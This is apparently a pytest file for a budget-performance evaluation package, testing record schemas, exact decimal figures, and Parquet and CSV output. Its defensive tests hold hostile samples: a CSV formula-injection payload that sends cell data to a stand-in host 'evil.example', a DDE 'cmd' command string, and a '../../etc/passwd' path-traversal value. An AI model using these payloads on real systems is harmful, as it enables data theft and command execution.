"""The results table: records, the tidy frame, Parquet/CSV files, sidecars read back."""

from __future__ import annotations

import csv
import doctest
import json
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

import evalkit
import evalkit.publish.records
from evalkit.audit import audit_unit_year, summarise
from evalkit.inputs.params import discover, load_unit_year
from evalkit.publish.records import (
    COLUMNS,
    RecordWarning,
    read_records,
    read_results,
    results_frame,
    unit_year_record,
    write_record,
    write_results,
)

from .conftest import PARAMS, ROOT

RECORD_KEYS = {
    "schema", "unit_id", "year", "key", "status", "error", "html", "unit_name", "kind", "rulebook",
    "total", "grade", "execution_rate", "execution_weight", "execution_score", "reported_total",
    "reported_grade", "findings", "indicators",
    "budget_initial", "budget_adjustment", "budget_final", "budget_actual", "execution_weight_set",
}  # fmt: skip
INDICATOR_KEYS = {
    "indicator", "level1", "level2", "op", "target", "target_adjusted", "unit", "actual",
    "completion", "weight", "score", "applicable", "grade",
    "deduction", "assessed_score", "grade_set", "weight_set",
}  # fmt: skip
DECIMAL = pd.ArrowDtype(pa.decimal128(28, 6))


@pytest.fixture(scope="module")
def records() -> list[dict]:
    """A record for every sample unit-year, scored and audited, with its report path."""
    out = []
    for ref in discover(PARAMS):
        loaded = load_unit_year(ref)
        out.append(
            unit_year_record(
                loaded,
                loaded.evaluate(),
                audit_unit_year(loaded),
                key=f"k-{ref.unit_id}-{ref.year}",
                html=f"{ref.year}/{ref.unit_id}.html",
            )
        )
    return out


def _reference(records: list[dict]) -> dict:
    return next(r for r in records if r["unit_id"] == "xinshi-rd" and r["year"] == 2023)


# --------------------------------------------------------------------------- records


def test_record_has_exactly_the_schema_and_is_json(records):
    for record in records:
        assert set(record) == RECORD_KEYS
        assert record["schema"] == 1
        assert all(set(item) == INDICATOR_KEYS for item in record["indicators"])
        assert json.loads(json.dumps(record, ensure_ascii=False)) == record


def test_reference_record_keeps_every_digit(records):
    record = _reference(records)
    loaded = load_unit_year(discover(PARAMS, unit="xinshi-rd", year=2023)[0])
    assert record["unit_name"] == "乌鲁木齐市新市区人民代表大会常务委员会"
    assert record["kind"] == "department" and record["rulebook"] == "national-default"
    assert (record["total"], record["grade"]) == ("91.73", "优")
    assert (record["execution_rate"], record["execution_weight"], record["execution_score"]) == (
        "99.43",
        "10",
        "9.94",
    )
    assert (record["reported_total"], record["reported_grade"]) == ("91.73", "优")
    assert record["findings"] == summarise(audit_unit_year(loaded))
    assert record["findings"]["error"] == 2
    assert (
        record["html"] == "2023/xinshi-rd.html"
        and record["status"] == "built"
        and record["error"] is None
    )
    budget = record["indicators"][1]
    assert budget["indicator"] == "预算经费"
    assert (budget["target"], budget["target_adjusted"], budget["actual"]) == (
        "304.1",
        "425.3",
        "422.89",
    )
    assert budget["op"] == "<=" and budget["unit"] == "万元"
    assert record["indicators"][7]["completion"] == "101.17"


def test_a_unit_year_that_could_not_be_scored():
    loaded = load_unit_year(discover(PARAMS, unit="xinshi-rd", year=2023)[0])
    record = unit_year_record(loaded, None, [], error="权重合计为 110，应为 100")
    assert record["status"] == "failed" and record["error"] == "权重合计为 110，应为 100"
    assert record["unit_name"].startswith("乌鲁木齐") and record["kind"] == "department"
    assert all(record[k] is None for k in ("total", "grade", "execution_rate", "execution_score"))
    assert record["indicators"] == [] and record["findings"] == {
        "error": 0,
        "warning": 0,
        "info": 0,
    }
    assert record["reported_total"] == "91.73"  # what the report printed is still known

    bare = unit_year_record(loaded.ref, None, [], error="YAML 格式错误")
    assert set(bare) == RECORD_KEYS
    assert bare["unit_name"] is None and bare["rulebook"] is None and bare["status"] == "failed"


# --------------------------------------------------------------------------- the frame


def test_one_row_per_indicator_plus_budget_execution(records):
    frame = results_frame(records)
    assert list(frame.columns) == [name for name, _, _ in COLUMNS]
    assert len(frame) == sum(1 + len(r["indicators"]) for r in records)
    for record in records:
        rows = frame[(frame["unit_id"] == record["unit_id"]) & (frame["year"] == record["year"])]
        assert rows["row_kind"].tolist() == ["execution"] + ["indicator"] * len(
            record["indicators"]
        )
        assert rows["indicator"].tolist() == ["预算执行率"] + [
            i["indicator"] for i in record["indicators"]
        ]
        assert rows["position"].tolist() == list(range(len(rows)))
    assert frame[["year", "unit_id"]].drop_duplicates().apply(tuple, axis=1).tolist() == [
        (2021, "demo-edu"), (2022, "demo-edu"), (2023, "demo-edu"), (2023, "xinshi-rd"), (2024, "demo-edu"),
    ]  # fmt: skip


def test_figures_are_exact_decimals(records):
    frame = results_frame([_reference(records)])
    for name, kind, _ in COLUMNS:
        if kind == "decimal":
            assert frame[name].dtype == DECIMAL, name
        if kind == "string":
            assert frame[name].dtype == pd.ArrowDtype(pa.string()), name
    execution = frame.iloc[0]
    assert execution["score"] == Decimal("9.94") and str(execution["score"].normalize()) == "9.94"
    assert (execution["actual"], execution["completion"], execution["weight"]) == (
        Decimal("99.43"),
        Decimal("99.43"),
        10,
    )
    assert (execution["target"], execution["op"], execution["unit"]) == (100, "=", "%")
    assert execution["lost"] == Decimal("0.06")
    satisfaction = frame[frame["indicator"] == "职工代表满意度"].iloc[0]
    assert satisfaction["actual"] == Decimal("96.11") and satisfaction["completion"] == Decimal(
        "101.17"
    )
    assert frame["total"].unique().tolist() == [Decimal("91.73")]
    # Summing the scores in the frame gives the total to the cent: no float drift.
    assert frame["score"].sum() == Decimal("91.73")


def test_qualitative_texts_go_to_their_own_columns(records):
    frame = results_frame(records)
    rows = frame[frame["op"] == "qualitative"]
    assert len(rows) >= 3
    assert rows["target"].isna().all() and rows["actual"].isna().all()
    assert rows["target_text"].notna().all() and rows["actual_text"].notna().all()
    assert set(rows["indicator_grade"]) <= {"达成", "部分达成", "未达成"}
    quantitative = frame[frame["op"] != "qualitative"]
    assert quantitative["target_text"].isna().all() and quantitative["target"].notna().all()


def test_failed_unit_years_are_one_row_each(records):
    lead_failure = {  # what the batch writes when loading fails: no unit name, no figures
        "schema": 1, "unit_id": "broken", "year": 2023, "key": "k", "status": "failed",
        "error": "params/broken/2023.yaml: YAML 格式错误", "html": None, "findings": {}, "indicators": [],
    }  # fmt: skip
    frame = results_frame([*records, lead_failure])
    rows = frame[frame["unit_id"] == "broken"]
    assert len(rows) == 1
    row = rows.iloc[0]
    assert (row["row_kind"], row["status"]) == ("failed", "failed")
    assert row["error"].endswith("YAML 格式错误")
    assert pd.isna(row["indicator"]) and pd.isna(row["total"]) and row["findings_error"] == 0


def test_an_empty_table_still_has_its_columns():
    frame = results_frame([])
    assert frame.empty and list(frame.columns) == [name for name, _, _ in COLUMNS]


# --------------------------------------------------------------------------- files


def test_parquet_and_csv_round_trip_exactly(records, tmp_path):
    parquet, csv_path = write_results(tmp_path, records)
    assert (parquet.name, csv_path.name) == ("results.parquet", "results.csv")
    back = read_results(tmp_path)
    pd.testing.assert_frame_equal(back, results_frame(records))

    raw = csv_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel then reads the Chinese
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == [name for name, _, _ in COLUMNS]
    reference = [r for r in rows if r["unit_id"] == "xinshi-rd"]
    assert reference[0]["score"] == "9.94" and reference[0]["unit_name"].startswith("乌鲁木齐市")
    assert reference[0]["total"] == "91.73"
    budget = next(r for r in reference if r["indicator"] == "预算经费")
    assert (budget["target"], budget["target_adjusted"], budget["actual"]) == (
        "304.1",
        "425.3",
        "422.89",
    )
    assert len(rows) == len(back)


def test_writes_are_atomic_and_leave_no_temporary_files(records, tmp_path, monkeypatch):
    write_results(tmp_path, records)
    before = (tmp_path / "results.parquet").read_bytes(), (tmp_path / "results.csv").read_bytes()
    for record in records:
        write_record(tmp_path, record)
    assert not [p for p in tmp_path.rglob("*") if p.name.endswith(".tmp")]

    import pyarrow.parquet as pq

    def broken(*args, **kwargs):
        raise OSError("磁盘已满")

    monkeypatch.setattr(pq, "write_table", broken)
    with pytest.raises(OSError):
        write_results(tmp_path, records[:1])
    after = (tmp_path / "results.parquet").read_bytes(), (tmp_path / "results.csv").read_bytes()
    assert after == before  # the old files are whole
    assert not [p for p in tmp_path.rglob("*") if p.name.endswith(".tmp")]


def test_sidecars_are_read_back_sorted_and_bad_ones_skipped(records, tmp_path):
    paths = [write_record(tmp_path, record) for record in reversed(records)]
    assert {p.relative_to(tmp_path).as_posix() for p in paths} == {
        f"{r['year']}/{r['unit_id']}.json" for r in records
    }
    (tmp_path / "2023" / "truncated.json").write_text('{"schema": 1, "unit_id": ', encoding="utf-8")
    (tmp_path / "2023" / "other.json").write_text('{"hello": "world"}', encoding="utf-8")
    (tmp_path / "notayear").mkdir()
    (tmp_path / "notayear" / "x.json").write_text("{}", encoding="utf-8")
    with pytest.warns(RecordWarning) as caught:
        back = read_records(tmp_path)
    assert len(caught) == 2 and any("truncated.json" in str(w.message) for w in caught)
    assert back == sorted(records, key=lambda r: (r["year"], r["unit_id"]))


def test_a_record_cannot_be_written_outside_its_folder(records, tmp_path):
    with pytest.raises(ValueError, match="单位编号"):
        write_record(tmp_path, {**records[0], "unit_id": "../../etc/passwd"})


# --------------------------------------------------------------------------- the package


def test_evalkit_results_reads_the_table(records, tmp_path):
    for record in records:
        write_record(tmp_path, record)
    frame = evalkit.results(tmp_path)
    assert len(frame) == sum(1 + len(r["indicators"]) for r in records)


def test_docstring_examples_run(monkeypatch):
    monkeypatch.chdir(ROOT)
    result = doctest.testmod(evalkit.publish.records, optionflags=doctest.ELLIPSIS)
    assert result.attempted > 5 and result.failed == 0


def test_results_path_type_accepts_str(records, tmp_path):
    write_results(str(tmp_path), records[:1])
    assert Path(tmp_path, "results.csv").is_file()


# --------------------------------------------------------------------------- formula injection


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_formula_leading_text_and_parquet_stays_exact(tmp_path, lead):
    loaded = load_unit_year(discover(PARAMS, unit="xinshi-rd", year=2023)[0])
    record = unit_year_record(loaded, loaded.evaluate(), [], html="2023/xinshi-rd.html")
    hostile = f'{lead}HYPERLINK("http://evil.example/?x="&A1,"点此")'
    record["unit_name"] = hostile
    record["indicators"][0]["indicator"] = f"{lead}cmd|' /C calc'!A0"
    parquet, csv_path = write_results(tmp_path, [record])

    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["unit_name"] for row in rows} == {"'" + hostile}
    assert rows[1]["indicator"] == f"'{lead}cmd|' /C calc'!A0"
    for row in rows:  # no text cell of the CSV starts a formula; negative figures stay numbers
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values() if value)

    table = read_results(tmp_path)  # the Parquet file keeps the text exactly
    assert set(table["unit_name"]) == {hostile}
    assert table.loc[1, "indicator"] == f"{lead}cmd|' /C calc'!A0"


def test_csv_keeps_ordinary_text_and_negative_figures(tmp_path):
    loaded = load_unit_year(discover(PARAMS, unit="xinshi-rd", year=2023)[0])
    record = unit_year_record(loaded, loaded.evaluate(), [])
    record["indicators"][0]["actual"] = "-3.5"
    _, csv_path = write_results(tmp_path, [record])
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[1]["actual"] == "-3.5"
    assert rows[0]["unit_name"] == "乌鲁木齐市新市区人民代表大会常务委员会"
